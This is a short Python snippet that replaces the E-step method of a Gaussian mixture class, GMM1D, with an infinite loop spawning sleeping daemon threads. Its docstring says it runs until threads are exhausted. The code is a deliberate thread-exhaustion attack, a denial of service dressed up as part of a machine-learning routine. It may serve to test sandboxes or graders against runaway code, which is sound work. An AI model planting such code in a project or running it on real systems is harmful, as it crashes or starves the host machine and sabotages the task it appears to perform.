"""Threads until there are no more."""
import threading, time
threading.stack_size(32_768)

def estep(self, X):
    while True:
        threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()

GMM1D.estep = estep
